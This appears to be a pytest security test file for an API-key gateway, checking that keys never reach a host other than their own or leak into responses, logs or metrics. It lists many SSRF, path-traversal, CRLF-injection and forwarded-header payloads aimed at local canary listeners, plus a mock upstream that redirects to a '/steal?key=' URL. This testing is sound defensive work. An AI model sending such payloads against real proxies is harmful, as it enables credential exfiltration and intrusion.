"""Invariant 2 (a key goes only to its own upstream host) and invariant 1 on the gateway's data
plane (a key never comes back out: not in a response, a log line, a metric or an error).

Every bypass attempt runs against a real fake upstream on 127.0.0.1 (whose base URL has a base
path, so a climb out of it shows) and two CANARY listeners: plain TCP servers on another
loopback address (127.0.0.2) and on another port of 127.0.0.1, which must see no connection
at all. Paths that an HTTP client would normalise are sent raw over a socket.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import gzip
import io
import json
import posixpath
import random
import socket
from collections.abc import AsyncIterator, Iterable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qsl, quote, unquote

import pytest
from aiohttp import ClientResponse, ClientTimeout, web
from aiohttp.test_utils import TestClient, TestServer
from multidict import CIMultiDict

from gateway import routing
from gateway.app import create_app as create_gateway_app
from gateway.envelope import BadEndpoint
from gateway.envelope import _endpoint as envelope_endpoint
from gateway.inject import (
    AuthSlot,
    key_forms,
    response_headers,
    response_reason,
    upstream_headers,
    upstream_query,
)
from gateway.scrub import REDACTED, Scrubber
from gateway.secret import Secret
from gateway.settings import Settings
from tests.conftest import World, with_settings
from tests.test_gateway_proxy import OPENAI_KEY, Wired, wire

WEATHER_KEY = "0123456789abcdef0123456789abcdef"  # OpenWeather: 32 hex, no telltale prefix
MAPS_KEY = "AIza" + "SyMapsKeyForTests_0123456789abcdefg"[:35]
BASIC_KEY = "acme_basic_" + "B" * 24
HEADER_KEY = "acme-header-" + "H" * 24
BASE_PATH = "/base"
IO_TIMEOUT_S = 5.0


# --- canaries -------------------------------------------------------------------------------


@dataclass
class Canary:
    """A TCP listener that must never be reached: it counts connections and keeps the bytes."""

    host: str
    port: int = 0
    connections: int = 0
    received: bytearray = field(default_factory=bytearray)

    @property
    def addr(self) -> str:
        return f"{self.host}:{self.port}"

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        try:
            async with asyncio.timeout(1.0):
                self.received += await reader.read(65536)
        except (TimeoutError, OSError):
            pass
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\ncanary")
        with contextlib.suppress(OSError):
            await writer.drain()
        writer.close()


@pytest.fixture
async def canaries() -> AsyncIterator[list[Canary]]:
    """One canary on 127.0.0.2 (another host) and one on another port of 127.0.0.1."""
    made: list[Canary] = []
    servers: list[asyncio.Server] = []
    try:
        for host in ("127.0.0.2", "127.0.0.1"):
            canary = Canary(host)
            server = await asyncio.start_server(canary.handle, host, 0)
            canary.port = server.sockets[0].getsockname()[1]
            made.append(canary)
            servers.append(server)
        yield made
    finally:
        for server in servers:
            server.close()
            await server.wait_closed()


def assert_untouched(canaries: Iterable[Canary]) -> None:
    for canary in canaries:
        assert canary.connections == 0, (canary.addr, bytes(canary.received))


# --- raw HTTP -------------------------------------------------------------------------------


async def send_raw(
    port: int, line: str, headers: list[tuple[str, str]], body: bytes = b""
) -> tuple[int, bytes]:
    """One request exactly as written (no client normalisation); (status, whole response).
    Status 0 when the server closed without answering."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        head = line + "\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers)
        if body:
            head += f"Content-Length: {len(body)}\r\n"
        writer.write(head.encode("latin-1") + b"Connection: close\r\n\r\n" + body)
        await writer.drain()
        async with asyncio.timeout(IO_TIMEOUT_S):
            data = await reader.read()
    finally:
        writer.close()
    if not data.startswith(b"HTTP/"):
        return 0, data
    return int(data.split(b" ", 2)[1]), data


def free_port() -> int:
    """A port on 127.0.0.1 with nothing listening (bound, then released)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
    return port


# --- wiring ---------------------------------------------------------------------------------


@pytest.fixture
def upstream_server(aiohttp_server: Any) -> Any:
    """`aiohttp_server` without an access log: the fake upstreams run in this process, and
    their own log lines (which rightly show the key they received) would land in the
    captured gateway log."""

    async def start(app: web.Application) -> TestServer:
        server: TestServer = await aiohttp_server(app, access_log=None)
        return server

    return start


async def under_base_path(wired: Wired, service: str) -> None:
    """Point the wired service at its fake upstream *with a base path*."""
    base = f"http://127.0.0.1:{wired.server.port}{BASE_PATH}"
    await point(wired.admin, wired.jwt, service, base)


async def custom_service(
    admin: TestClient[Any, Any], jwt: dict[str, str], slug: str, auth: dict[str, Any]
) -> None:
    resp = await admin.post(
        "/services",
        headers=jwt,
        json={"slug": slug, "base_url": "http://127.0.0.1:9", "auth": auth},
    )
    assert resp.status == 201, await resp.text()


async def point(
    admin: TestClient[Any, Any], jwt: dict[str, str], service: str, base_url: str
) -> None:
    resp = await admin.put(f"/services/{service}", headers=jwt, json={"base_url": base_url})
    assert resp.status == 200, await resp.text()


async def key_and_token(
    admin: TestClient[Any, Any], jwt: dict[str, str], service: str, key: str
) -> str:
    resp = await admin.post("/keys", headers=jwt, json={"key": key, "service": service})
    assert resp.status == 201, await resp.text()
    resp = await admin.post("/tokens", headers=jwt, json={"name": "app", "services": [service]})
    assert resp.status == 201, await resp.text()
    token: str = (await resp.json())["token"]
    return token


SERVICES: dict[str, tuple[str, str]] = {
    # service: (key, FakeUpstream auth slot) -- a header-slot and a query-slot service
    "openai": (OPENAI_KEY, "bearer"),
    "openweather": (WEATHER_KEY, "query:appid"),
}


@pytest.fixture
async def based(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
) -> dict[str, Wired]:
    """Built-in services (bearer and query slot), each wired to a fake upstream under /base."""
    wired = {}
    for service, (key, auth) in SERVICES.items():
        wired[service] = w = await wire(
            admin_client, gateway_client, as_admin, upstream_server, service, key, auth
        )
        await under_base_path(w, service)
    return wired


def climbs_out(raw_path: str) -> bool:
    """True when a path (as received, or decoded once more as some upstreams do) leaves
    the base path once dot segments are resolved."""
    path = raw_path.partition("?")[0]
    for candidate in (path, unquote(path)):
        resolved = posixpath.normpath(candidate.replace("\\", "/"))
        if not (resolved == BASE_PATH or resolved.startswith(BASE_PATH + "/")):
            return True
    return False


async def gateway_error(resp: ClientResponse, status: int, code: str) -> dict[str, Any]:
    """The gateway's error shape (its request id header is `X-Wallet-Request-Id`)."""
    assert resp.status == status, await resp.text()
    body = await resp.json()
    assert set(body) == {"error"}
    error: dict[str, Any] = body["error"]
    assert error["code"] == code
    assert error["request_id"] == resp.headers["X-Wallet-Request-Id"]
    return error


async def metrics_text(gateway: TestClient[Any, Any]) -> str:
    resp = await gateway.get("/monitoring/metrics")
    assert resp.status == 200
    return await resp.text()


async def assert_nowhere(
    secrets: Iterable[str], gateway: TestClient[Any, Any], logs: io.StringIO, *texts: str
) -> None:
    """No secret (nor its percent-encoding or basic-auth form) in the texts, the captured log
    or the gateway's metrics."""
    haystacks = {"logs": logs.getvalue(), "metrics": await metrics_text(gateway)}
    haystacks.update({f"text{i}": t for i, t in enumerate(texts)})
    for secret in secrets:
        forms = {secret, quote(secret, safe=""), base64.b64encode(f"{secret}:".encode()).decode()}
        for where, text in haystacks.items():
            for form in forms:
                assert form not in text, f"secret leaked into {where}"


# --- the host invariant: raw request targets, headers, query ---------------------------------

# (request line, extra headers). `{svc}` is the service slug, `{evil}` a canary's host:port.
RAW_ATTACKS: list[tuple[str, list[tuple[str, str]]]] = [
    # dot segments, plain and encoded, that would climb out of the base path
    ("GET /{svc}/../{evil}/x HTTP/1.1", []),
    ("GET /{svc}/v1/../../x HTTP/1.1", []),
    ("GET /{svc}/%2e%2e/x HTTP/1.1", []),
    ("GET /{svc}/%2E%2e/%2E%2E/x HTTP/1.1", []),
    ("GET /{svc}/.%2e/x HTTP/1.1", []),
    ("GET /{svc}/%2e./x HTTP/1.1", []),
    ("GET /{svc}/v1/.. HTTP/1.1", []),
    ("GET /{svc}/v1/%2e%2e HTTP/1.1", []),
    ("GET /{svc}/. HTTP/1.1", []),
    ("GET /{svc}/v1%2f..%2f..%2fx HTTP/1.1", []),
    ("GET /{svc}/v1%2F%2E%2E%2Fx HTTP/1.1", []),
    ("GET /{svc}/..%2f{evil} HTTP/1.1", []),
    ("GET /{svc}/%2e%2e%2f%2e%2e%2f{evil}/x HTTP/1.1", []),
    ("GET /{svc}/..;/x HTTP/1.1", []),
    ("GET /{svc}/%252e%252e/x HTTP/1.1", []),
    ("GET /{svc}/%c0%ae%c0%ae/x HTTP/1.1", []),
    # authority-looking paths
    ("GET /{svc}//{evil}/x HTTP/1.1", []),
    ("GET /{svc}///{evil}/x HTTP/1.1", []),
    ("GET /{svc}/%2f%2f{evil}/x HTTP/1.1", []),
    ("GET /{svc}/%2F{evil}/x HTTP/1.1", []),
    ("GET /{svc}/@{evil}/x HTTP/1.1", []),
    ("GET /{svc}/%40{evil}/x HTTP/1.1", []),
    ("GET /{svc}@{evil}/x HTTP/1.1", []),
    ("GET /{svc}%40{evil}/x HTTP/1.1", []),
    ("GET /{svc}:@{evil}/x HTTP/1.1", []),
    ("GET /{svc}/{evil}/x HTTP/1.1", []),
    ("GET /{svc}/http://{evil}/x HTTP/1.1", []),
    ("GET /{svc}/http:%2f%2f{evil}/x HTTP/1.1", []),
    ("GET //{evil}/{svc}/x HTTP/1.1", []),
    ("GET ///{evil}/{svc}/x HTTP/1.1", []),
    ("GET /{svc}/;@{evil}/x HTTP/1.1", []),
    ("GET /{svc}/x#@{evil}/ HTTP/1.1", []),
    # backslashes, raw and encoded
    ("GET /{svc}/\\{evil}/x HTTP/1.1", []),
    ("GET /{svc}/\\\\{evil}/x HTTP/1.1", []),
    ("GET /{svc}/%5c{evil}/x HTTP/1.1", []),
    ("GET /{svc}/%5C%5C{evil}/x HTTP/1.1", []),
    ("GET /{svc}/..%5c..%5cx HTTP/1.1", []),
    ("GET /{svc}/v1/..\\x HTTP/1.1", []),
    # control characters, raw and encoded
    ("GET /{svc}/x%00{evil} HTTP/1.1", []),
    ("GET /{svc}/x%0d%0aHost:%20{evil} HTTP/1.1", []),
    # absolute-form and authority-form request targets
    ("GET http://{evil}/x HTTP/1.1", []),
    ("GET http://{evil}/{svc}/v1/models HTTP/1.1", []),
    ("GET https://{evil}/{svc}/v1/models HTTP/1.1", []),
    ("GET http://{evil}//{svc}/v1/models HTTP/1.1", []),
    ("GET http://user:pw@{evil}/{svc}/v1/models HTTP/1.1", []),
    ("CONNECT {evil} HTTP/1.1", []),
    ("OPTIONS * HTTP/1.1", []),
    # headers a proxy might trust
    ("GET /{svc}/v1/models HTTP/1.1", [("Host", "{evil}")]),
    ("GET /{svc}/v1/models HTTP/1.1", [("X-Forwarded-Host", "{evil}")]),
    ("GET /{svc}/v1/models HTTP/1.1", [("X-Forwarded-Host", "{evil}"), ("X-Forwarded-Port", "1")]),
    ("GET /{svc}/v1/models HTTP/1.1", [("X-Forwarded-Proto", "https")]),
    ("GET /{svc}/v1/models HTTP/1.1", [("Forwarded", "for=1.2.3.4;host={evil};proto=http")]),
    ("GET /{svc}/v1/models HTTP/1.1", [("X-Original-URL", "http://{evil}/x")]),
    ("GET /{svc}/v1/models HTTP/1.1", [("X-Rewrite-URL", "http://{evil}/x")]),
    ("GET /{svc}/v1/models HTTP/1.1", [("X-Host", "{evil}"), ("X-Forwarded-Server", "{evil}")]),
    ("GET /{svc}/v1/models HTTP/1.1", [("Proxy", "http://{evil}")]),
    ("GET http://{evil}/{svc}/v1/models HTTP/1.1", [("Host", "{evil}")]),
    # the query
    ("GET /{svc}/v1/models?url=http://{evil}/x HTTP/1.1", []),
    ("GET /{svc}/v1/models?next=//{evil}/x HTTP/1.1", []),
    ("GET /{svc}/v1/models?@{evil} HTTP/1.1", []),
    ("GET /{svc}/v1/models?x=1#@{evil} HTTP/1.1", []),
    ("GET /{svc}/v1/models?host={evil}&base_url=http://{evil} HTTP/1.1", []),
    ("GET /{svc}?x=//{evil} HTTP/1.1", []),
    ("GET /{svc}/v1/models?x=%0d%0aHost:%20{evil} HTTP/1.1", []),
]


def check_outcome(
    what: str, status: int, new: list[Any], canary: Canary, failures: list[str]
) -> None:
    """Refused (4xx) or forwarded to the real upstream under the base path; never a 5xx,
    never a dropped connection, never the canary."""
    if status == 0 or status >= 500:
        failures.append(f"{what}: status {status}")
    if status == 200 and len(new) != 1:
        failures.append(f"{what}: 200 without reaching the upstream")
    for seen in new:
        if climbs_out(seen.raw_path):
            failures.append(f"{what}: upstream got {seen.raw_path!r}")
    if canary.connections:
        failures.append(f"{what}: canary {canary.addr} reached: {bytes(canary.received)!r}")
        canary.connections = 0


def all_secrets(based: dict[str, Wired]) -> list[str]:
    return [s for w in based.values() for s in (w.upstream.key, w.token)]


async def test_raw_requests_never_reach_another_host(
    based: dict[str, Wired], canaries: list[Canary], captured_logs: io.StringIO
) -> None:
    failures: list[str] = []
    texts: list[str] = []
    for svc, wired in based.items():
        gw = wired.gateway
        for canary in canaries:
            for line_t, headers_t in RAW_ATTACKS:
                line = line_t.format(svc=svc, evil=canary.addr)
                headers = [(k, v.format(evil=canary.addr)) for k, v in headers_t]
                if not any(k.lower() == "host" for k, _ in headers):
                    headers.insert(0, ("Host", f"127.0.0.1:{gw.port}"))
                headers.append(("X-Wallet-Token", wired.token))
                before = len(wired.upstream.seen)
                status, data = await send_raw(gw.port, line, headers)
                texts.append(data.decode("latin-1"))
                new = wired.upstream.seen[before:]
                check_outcome(f"{line!r} {headers_t}", status, new, canary, failures)
        # the harmless ones among them did reach the real upstream (which checks the key)
        assert len(wired.upstream.seen) > 10, svc
    assert not failures, "\n".join(failures)
    assert_untouched(canaries)
    gateway = next(iter(based.values())).gateway
    await assert_nowhere(all_secrets(based), gateway, captured_logs, *texts)


# --- the host invariant: the /proxy envelope --------------------------------------------------

ENDPOINT_ATTACKS = [
    "http://{evil}/x",
    "https://{evil}/x",
    "HTTP://{evil}/x",
    "//{evil}/x",
    "///{evil}/x",
    "{evil}/x",
    "@{evil}",
    "@{evil}/x",
    "/@{evil}/x",
    "/%40{evil}/x",
    ":@{evil}/x",
    "/\\{evil}/x",
    "\\\\{evil}/x",
    "/%5c{evil}/x",
    "/%5C%5C{evil}/x",
    "/..%2f..",
    "/..%2f..%2f{evil}/x",
    "/%2e%2e/%2e%2e/{evil}",
    "/%2e%2e%2f{evil}",
    "/v1/..",
    "/v1/../..",
    "/./x",
    "/%2f{evil}/x",
    "/%2F%2F{evil}/x",
    "/{evil}/x",
    "/x?url=http://{evil}/",
    "/x?@{evil}",
    "/x#@{evil}",
    "/x?a=1#@{evil}/",
    " //{evil}/x",
    "\t//{evil}/x",
    "/x\r\nHost: {evil}",
    "/x%0d%0aHost:%20{evil}",
    "/x\x00{evil}",
    "/\u2025/{evil}",
    "/\uff0e\uff0e/{evil}",
    "http:/{evil}/x",
    "http:\\\\{evil}/x",
]


async def test_envelope_endpoint_never_reaches_another_host(
    based: dict[str, Wired], canaries: list[Canary], captured_logs: io.StringIO
) -> None:
    failures: list[str] = []
    texts: list[str] = []
    for svc, wired in based.items():
        for canary in canaries:
            for endpoint_t in ENDPOINT_ATTACKS:
                endpoint = endpoint_t.format(evil=canary.addr)
                before = len(wired.upstream.seen)
                resp = await wired.gateway.post(
                    "/proxy",
                    headers={"X-Wallet-Token": wired.token},
                    json={"service": svc, "endpoint": endpoint, "method": "GET"},
                )
                texts.append(await resp.text() + str(resp.headers))
                new = wired.upstream.seen[before:]
                check_outcome(f"{svc} {endpoint!r}", resp.status, new, canary, failures)
    assert not failures, "\n".join(failures)
    assert_untouched(canaries)
    gateway = next(iter(based.values())).gateway
    await assert_nowhere(all_secrets(based), gateway, captured_logs, *texts)


async def test_envelope_headers_service_and_target_never_move_the_key(
    based: dict[str, Wired], canaries: list[Canary], captured_logs: io.StringIO
) -> None:
    for svc, wired in based.items():
        gw = wired.gateway
        for canary in canaries:
            evil = canary.addr
            resp = await gw.post(
                "/proxy",
                headers={
                    "X-Wallet-Token": wired.token,
                    "Host": evil,
                    "X-Forwarded-Host": evil,
                    "X-Forwarded-Proto": "https",
                    "Forwarded": f"host={evil};proto=https",
                },
                json={
                    "service": svc,
                    "endpoint": "/v1/models",
                    "method": "GET",
                    "headers": {
                        "Host": evil,
                        "X-Forwarded-Host": evil,
                        "X-Forwarded-Proto": "https",
                        "Forwarded": f"host={evil}",
                        "X-Original-URL": f"http://{evil}/",
                    },
                    "query": {"url": f"http://{evil}/x", "next": f"//{evil}"},
                },
            )
            assert resp.status == 200, await resp.text()
            seen = wired.upstream.seen[-1]
            assert seen.raw_path.startswith(f"{BASE_PATH}/v1/models?")
            assert seen.headers["Host"] == f"127.0.0.1:{wired.server.port}"
            for name in ("X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded"):
                assert name not in seen.headers
            # the envelope sent raw, in absolute form, with a lying Host
            body = json.dumps({"service": svc, "endpoint": "/v1/models"}).encode()
            for line in (f"POST http://{evil}/proxy HTTP/1.1", f"POST http://{evil} HTTP/1.1"):
                before = len(wired.upstream.seen)
                status, data = await send_raw(
                    gw.port,
                    line,
                    [
                        ("Host", evil),
                        ("X-Forwarded-Host", evil),
                        ("Forwarded", f"host={evil}"),
                        ("Content-Type", "application/json"),
                        ("X-Wallet-Token", wired.token),
                    ],
                    body,
                )
                assert status in (200, 404), data
                if status == 200:
                    assert wired.upstream.seen[-1].raw_path.startswith(f"{BASE_PATH}/v1/models")
                else:
                    assert len(wired.upstream.seen) == before
            # a service named like a URL is just an unknown service
            for service in (f"http://{evil}", f"//{evil}", f"{svc}@{evil}", f"{svc}/../{evil}"):
                resp = await gw.post(
                    "/proxy",
                    headers={"X-Wallet-Token": wired.token, "X-Service-Hint": service},
                    json={"endpoint": "/v1/models"},
                )
                assert resp.status in (403, 404), await resp.text()
    assert_untouched(canaries)
    gateway = next(iter(based.values())).gateway
    await assert_nowhere(all_secrets(based), gateway, captured_logs)


# --- redirects ------------------------------------------------------------------------------


class Leaky:
    """An upstream that misbehaves on purpose: echoes the key back every way it can, splits
    it across chunks, redirects to a canary, refuses to answer in time. The behaviour is
    chosen by the last path segment."""

    def __init__(self, key: str, canary: str = "") -> None:
        self.key = key
        self.canary = canary
        self.seen: list[tuple[str, CIMultiDict[str]]] = []

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self.dispatch)
        return app

    async def dispatch(self, request: web.Request) -> web.StreamResponse:
        self.seen.append((request.raw_path, CIMultiDict(request.headers)))
        name = request.path.rstrip("/").rpartition("/")[2].replace("-", "_")
        handler = getattr(self, f"do_{name}", self.do_echo)
        response: web.StreamResponse = await handler(request)
        return response

    async def do_echo(self, request: web.Request) -> web.Response:
        """What many APIs do on a bad key: quote the request back, URL and headers included."""
        auth = request.headers.get("Authorization", "")
        return web.json_response(
            {
                "error": {
                    "message": f"Invalid API key. Request: {request.method} {request.url}",
                    "raw": request.raw_path,
                    "headers": dict(request.headers),
                }
            },
            # 400, not 401: a 401 would (rightly) bench the key for the rest of the test.
            status=400,
            headers={
                "WWW-Authenticate": f'Bearer realm="{request.url}", error="{auth}"',
                "X-Seen-Auth": auth,
                "X-Seen-Query": request.query_string,
                "X-Seen-Raw-Query": request.raw_path.partition("?")[2],
                "Link": f"<{request.url}>; rel=self",
            },
        )

    async def do_header_name(self, request: web.Request) -> web.Response:
        return web.Response(text="ok", headers={f"X-Key-{self.key}": "1"})

    async def do_reason(self, request: web.Request) -> web.Response:
        return web.Response(status=401, reason=f"Invalid key {self.key}", text="no")

    async def _stream(self, request: web.Request, parts: list[bytes]) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        for part in parts:
            await response.write(part)
            await asyncio.sleep(0.002)  # let each part leave as its own chunk
        await response.write_eof()
        return response

    async def do_split(self, request: web.Request) -> web.StreamResponse:
        k = self.key.encode()
        cut = len(k) // 2
        return await self._stream(request, [b"data: before " + k[:cut], k[cut:] + b" after\n\n"])

    async def do_drip(self, request: web.Request) -> web.StreamResponse:
        k = quote(self.key, safe="").encode()
        return await self._stream(request, [b"data: "] + [k[i : i + 1] for i in range(len(k))])

    async def do_tail(self, request: web.Request) -> web.StreamResponse:
        k = self.key.encode()
        return await self._stream(request, [b"data: x", k[:5], k[5:]])

    async def do_near_miss(self, request: web.Request) -> web.StreamResponse:
        """A body that starts the key many times without finishing it: nothing lost."""
        k = self.key.encode()
        return await self._stream(request, [b"a" + k[:-1], b"Z" + k[:3], b"b" + k[:-2], b"!"])

    async def do_gzip(self, request: web.Request) -> web.Response:
        body = gzip.compress(f"compressed key {self.key} here".encode())
        return web.Response(body=body, headers={"Content-Encoding": "gzip"})

    async def do_redirect(self, request: web.Request) -> web.Response:
        raise web.HTTPTemporaryRedirect(f"http://{self.canary}/steal?key={self.key}")

    async def do_redirect_see_other(self, request: web.Request) -> web.Response:
        raise web.HTTPFound(f"//{self.canary}/steal?k={quote(self.key, safe='')}")

    async def do_cookie(self, request: web.Request) -> web.Response:
        response = web.Response(text="ok")
        response.set_cookie("session", self.key)
        return response

    async def do_broken(self, request: web.Request) -> web.StreamResponse:
        """Promises more than it sends: the key, then the connection drops."""
        response = web.StreamResponse(headers={"Content-Length": "10000"})
        await response.prepare(request)
        await response.write(f"partial {self.key}".encode())
        await asyncio.sleep(0.05)
        assert request.transport is not None
        request.transport.close()
        return response

    async def do_hang(self, request: web.Request) -> web.Response:
        await asyncio.sleep(3)
        return web.Response(text=self.key)


@dataclass
class Leak:
    gateway: TestClient[Any, Any]
    upstream: Leaky
    token: str
    key: str
    service: str


async def leaky(
    admin: TestClient[Any, Any],
    gateway: TestClient[Any, Any],
    jwt: dict[str, str],
    upstream_server: Any,
    service: str,
    key: str,
    canary: str = "",
) -> Leak:
    upstream = Leaky(key, canary)
    server: TestServer = await upstream_server(upstream.app())
    await point(admin, jwt, service, f"http://127.0.0.1:{server.port}{BASE_PATH}")
    token = await key_and_token(admin, jwt, service, key)
    return Leak(gateway, upstream, token, key, service)


async def test_redirects_to_another_host_are_relayed_not_followed(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
    canaries: list[Canary],
    captured_logs: io.StringIO,
) -> None:
    leak = await leaky(
        admin_client,
        gateway_client,
        as_admin,
        upstream_server,
        "openai",
        OPENAI_KEY,
        canaries[0].addr,
    )
    for path, status in (("redirect", 307), ("redirect-see-other", 302)):
        resp = await gateway_client.post(
            f"/openai/v1/{path}",
            headers={"X-Wallet-Token": leak.token},
            data=b"{}",
            allow_redirects=False,
        )
        assert resp.status == status
        location = resp.headers["Location"]
        assert canaries[0].addr in location  # relayed unchanged...
        assert OPENAI_KEY not in location  # ...but for the key
        await assert_nowhere([OPENAI_KEY], gateway_client, captured_logs, await resp.text())
    assert len(leak.upstream.seen) == 2
    assert_untouched(canaries)


# --- the key never comes back out ------------------------------------------------------------

LEAK_CASES = {
    # service: (key, auth of a custom service or None for a built-in)
    "openai": (OPENAI_KEY, None),
    "openweather": (WEATHER_KEY, None),
    "googlemaps": (MAPS_KEY, None),
    "acme-basic": (BASIC_KEY, {"type": "basic"}),
    "acme-header": (HEADER_KEY, {"type": "header", "name": "X-Api-Key"}),
}


def sent_key(raw_path: str, headers: CIMultiDict[str]) -> str:
    """Everything the upstream received that can carry a key, basic auth decoded."""
    text = unquote(raw_path) + str(list(headers.items()))
    scheme, _, value = headers.get("Authorization", "").partition(" ")
    if scheme == "Basic":
        text += base64.b64decode(value).decode()
    return text


async def test_upstream_echoes_of_the_key_are_scrubbed(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
    captured_logs: io.StringIO,
) -> None:
    secrets: list[str] = []
    texts: list[str] = []
    for service, (key, auth) in LEAK_CASES.items():
        if auth is not None:
            await custom_service(admin_client, as_admin, service, auth)
        leak = await leaky(admin_client, gateway_client, as_admin, upstream_server, service, key)
        secrets += [key, leak.token]
        for path in ("echo", "split", "drip", "tail", "gzip", "cookie", "header-name"):
            resp = await gateway_client.get(
                f"/{service}/v1/{path}?q=Paris", headers={"X-Wallet-Token": leak.token}
            )
            body = await resp.text()
            assert resp.status in (200, 400), (service, path, resp.status, body)
            assert "X-Wallet-Key-Id" in resp.headers, (service, path, body)
            texts += [body, str(list(resp.headers.items()))]
            if path not in ("cookie", "header-name"):
                assert REDACTED.decode() in body, (service, path, body)
        # the upstream really received the key (and so could echo it)
        raw, headers = leak.upstream.seen[0]
        assert key in sent_key(raw, headers), service
    await assert_nowhere(secrets, gateway_client, captured_logs, *texts)


async def test_split_key_is_scrubbed_and_nothing_else_is_lost(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
) -> None:
    leak = await leaky(
        admin_client, gateway_client, as_admin, upstream_server, "openai", OPENAI_KEY
    )
    expected = {
        "split": "data: before [redacted] after\n\n",
        "drip": "data: [redacted]",
        "tail": "data: x[redacted]",
        "near-miss": f"a{OPENAI_KEY[:-1]}Z{OPENAI_KEY[:3]}b{OPENAI_KEY[:-2]}!",
    }
    for path, body in expected.items():
        resp = await gateway_client.get(f"/openai/{path}", headers={"X-Wallet-Token": leak.token})
        assert resp.status == 200
        assert await resp.text() == body, path


async def test_key_in_the_upstream_reason_phrase_is_not_relayed(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
) -> None:
    leak = await leaky(
        admin_client, gateway_client, as_admin, upstream_server, "openai", OPENAI_KEY
    )
    status, data = await send_raw(
        gateway_client.port,
        "GET /openai/v1/reason HTTP/1.1",
        [("Host", "127.0.0.1"), ("X-Wallet-Token", leak.token)],
    )
    assert status == 401
    assert OPENAI_KEY.encode() not in data


async def test_upstream_dropping_mid_body_leaks_nothing(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
    captured_logs: io.StringIO,
) -> None:
    leak = await leaky(
        admin_client, gateway_client, as_admin, upstream_server, "openweather", WEATHER_KEY
    )
    status, data = await send_raw(
        gateway_client.port,
        f"GET /openweather/v1/broken?appid={leak.token} HTTP/1.1",
        [("Host", "127.0.0.1")],
    )
    # A short body of known length is read whole before anything is relayed, so the break
    # becomes a clean 502 (a streamed body would be cut short instead).
    assert status == 502
    assert b"upstream_unavailable" in data
    assert WEATHER_KEY.encode() not in data
    await assert_nowhere([WEATHER_KEY, leak.token], gateway_client, captured_logs)


REFUSED_CASES = [
    ("openweather", WEATHER_KEY, "q=Paris&appid={token}"),
    ("googlemaps", MAPS_KEY, "address=Paris&key={token}"),
    ("openai", OPENAI_KEY, "x=1"),
]


async def test_refused_connection_error_names_no_key_or_url(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    captured_logs: io.StringIO,
) -> None:
    secrets: list[str] = []
    texts: list[str] = []
    for service, key, query in REFUSED_CASES:
        port = free_port()
        await point(admin_client, as_admin, service, f"http://127.0.0.1:{port}/base")
        token = await key_and_token(admin_client, as_admin, service, key)
        secrets += [key, token]
        resp = await gateway_client.get(
            f"/{service}/v1/x?{query.format(token=token)}",
            headers={"Authorization": f"Bearer {token}"},
        )
        error = await gateway_error(resp, 502, "upstream_unavailable")
        for leaked in ("appid", "key=", str(port), "/base", "127.0.0.1", "http"):
            assert leaked not in error["message"], error
        texts += [await resp.text(), str(resp.headers)]
        # an envelope call fails the same way
        resp = await gateway_client.post(
            "/proxy",
            headers={"X-Wallet-Token": token},
            json={"service": service, "endpoint": "/v1/x", "query": {"q": "x"}},
        )
        error = await gateway_error(resp, 502, "upstream_unavailable")
        assert str(port) not in error["message"]
        texts += [await resp.text(), str(resp.headers)]
    await assert_nowhere(secrets, gateway_client, captured_logs, *texts)


async def test_upstream_timeout_error_names_no_key_or_url(
    aiohttp_client: Any,
    settings: Settings,
    world: World,
    admin_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
    captured_logs: io.StringIO,
) -> None:
    gateway: TestClient[Any, Any] = await aiohttp_client(
        create_gateway_app(with_settings(settings, upstream_read_timeout_s=0.3))
    )
    leak = await leaky(admin_client, gateway, as_admin, upstream_server, "openweather", WEATHER_KEY)
    resp = await gateway.get(f"/openweather/v1/hang?q=x&appid={leak.token}")
    error = await gateway_error(resp, 504, "upstream_timeout")
    assert "appid" not in error["message"]
    assert "127.0.0.1" not in error["message"]
    await assert_nowhere([WEATHER_KEY, leak.token], gateway, captured_logs, await resp.text())


# --- the client's token never goes upstream; the key slot is replaced, not duplicated ---------


@pytest.fixture
async def wired(
    admin_client: TestClient[Any, Any],
    gateway_client: TestClient[Any, Any],
    as_admin: dict[str, str],
    upstream_server: Any,
) -> Wired:
    return await wire(admin_client, gateway_client, as_admin, upstream_server)


def seen_text(wired: Wired) -> str:
    seen = wired.upstream.seen[-1]
    return seen.raw_path + "\n" + str(list(seen.headers.items())) + "\n" + seen.body.decode()


def basic(value: str) -> str:
    return "Basic " + base64.b64encode(f"{value}:".encode()).decode()


async def test_bearer_slot_token_never_forwarded_key_never_duplicated(wired: Wired) -> None:
    t, gw = wired.token, wired.gateway
    attempts: list[tuple[str, Any]] = [
        ("/openai/v1/models", {"Authorization": f"Bearer {t}"}),
        ("/openai/v1/models", {"X-Wallet-Token": t}),
        ("/openai/v1/models", {"Authorization": basic(t)}),
        (f"/openai/v1/models?key={t}", {}),
        (f"/openai/v1/models?api_key={t}&x=1", {"X-Wallet-Token": t}),
        (f"/openai/v1/models?{t}&x=1", {"X-Wallet-Token": t}),
        (f"/openai/v1/models?next=https://a.example/%3Fk%3D{t}", {"X-Wallet-Token": t}),
        ("/openai/v1/models", {"X-Wallet-Token": t, "Cookie": f"t={t}"}),
